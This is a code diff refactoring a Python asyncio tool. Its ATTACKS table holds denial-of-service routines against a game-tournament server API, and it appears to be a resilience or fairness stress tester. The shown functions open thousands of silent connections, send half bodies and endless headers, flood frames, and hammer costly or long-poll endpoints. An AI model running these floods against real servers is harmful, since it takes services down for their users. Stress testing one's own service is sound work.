@@ -7,9 +7,9 @@ that its work does not delay the honest players' clients.
 import asyncio
 import os
 import sys
-from collections.abc import Awaitable, Callable, Coroutine, Mapping
+from collections.abc import Awaitable, Callable, Mapping
 from contextlib import suppress
-from typing import Any
+from functools import partial
 
 import msgspec
 
@@ -35,7 +35,7 @@ async def refused_commands(target: Target) -> None:
             body = {"command": new_id(), "round": 1, "entrant": 0}
             await line.ask("POST", f"/v1/tournaments/{target.tournament}/check-ins", body, token=token)
 
-    await _together([again_and_again(target, _with(refuse, each)) for each in tokens for _ in range(8)])
+    await again_and_again(target, *(partial(refuse, each) for each in tokens for _ in range(8)))
 
 
 async def half_bodies(target: Target) -> None:
@@ -46,12 +46,12 @@ async def half_bodies(target: Target) -> None:
         line.writer.write(head)
         await line.until_closed()
 
-    await _together([again_and_again(target, send_half) for _ in range(1_100 * target.strength)])
+    await again_and_again(target, *[send_half] * 1_100 * target.strength)
 
 
 async def silent_connections(target: Target) -> None:
     """8,200 connections that send nothing."""
-    await _together([again_and_again(target, Line.until_closed) for _ in range(min(8_200 * target.strength, 16_000))])
+    await again_and_again(target, *[Line.until_closed] * min(8_200 * target.strength, 16_000))
 
 
 async def endless_heads(target: Target) -> None:
@@ -63,7 +63,7 @@ async def endless_heads(target: Target) -> None:
             line.writer.write(b"x: " + b"y" * 8_000 + b"\r\n")
             await line.writer.drain()
 
-    await _together([again_and_again(target, pour) for _ in range(target.strength)])
+    await again_and_again(target, *[pour] * target.strength)
 
 
 async def costly_reads(target: Target) -> None:
@@ -75,7 +75,7 @@ async def costly_reads(target: Target) -> None:
             await line.ask("GET", f"/v1/games/{target.game}/boards?from=1", token=token)
             await line.ask("GET", "/v1/games?status=finished", token=token)
 
-    await _together([again_and_again(target, _with(read, each)) for each in tokens])
+    await again_and_again(target, *(partial(read, each) for each in tokens))
 
 
 async def waiting_requests(target: Target) -> None:
@@ -86,7 +86,7 @@ async def waiting_requests(target: Target) -> None:
         while True:
             await line.ask("GET", f"/v1/games/{target.game}?min_version=4000", token=token)
 
-    await _together([again_and_again(target, _with(wait, each)) for each in tokens for _ in range(40)])
+    await again_and_again(target, *(partial(wait, each) for each in tokens for _ in range(40)))
 
 
 async def delayed_games(target: Target) -> None:
@@ -99,7 +99,7 @@ async def delayed_games(target: Target) -> None:
             await line.ask("POST", "/v1/games", body, token=token)
             await line.ask("GET", "/v1/games?status=finished", token=token)
 
-    await _together([again_and_again(target, _with(open_and_read, each)) for each in tokens])
+    await again_and_again(target, *(partial(open_and_read, each) for each in tokens))
 
 
 async def full_stands(target: Target) -> None:
@@ -109,7 +109,7 @@ async def full_stands(target: Target) -> None:
         line.writer.write(write_request("GET", f"/v1/games/{target.game}/live"))
         await line.until_closed()
 
-    await _together([again_and_again(target, follow) for _ in range(min(4_000 * target.strength, 14_000))])
+    await again_and_again(target, *[follow] * min(4_000 * target.strength, 14_000))
 
 
 async def _flood(target: Target, frames: bytes) -> None:
@@ -120,7 +120,7 @@ async def _flood(target: Target, frames: bytes) -> None:
             line.writer.write(frames)
             await line.writer.drain()
 
-    await _together([again_and_again(target, flood) for _ in range(10 * target.strength)])
+    await again_and_again(target, *[flood] * 10 * target.strength)
 
 
 async def unread_pings(target: Target) -> None:
@@ -148,16 +148,6 @@ ATTACKS: Mapping[str, Callable[[Target], Awaitable[None]]] = {
         socket_texts,
     )
 }
-
-
-def _with(
-    work: Callable[..., Coroutine[Any, Any, None]], token: str | None
-) -> Callable[[Line], Coroutine[Any, Any, None]]:
-    return lambda line: work(token, line)
-
-
-async def _together(works: list[Awaitable[None]]) -> None:
-    await asyncio.gather(*works)
 
 
 async def _attack(name: str, target: Target) -> None:
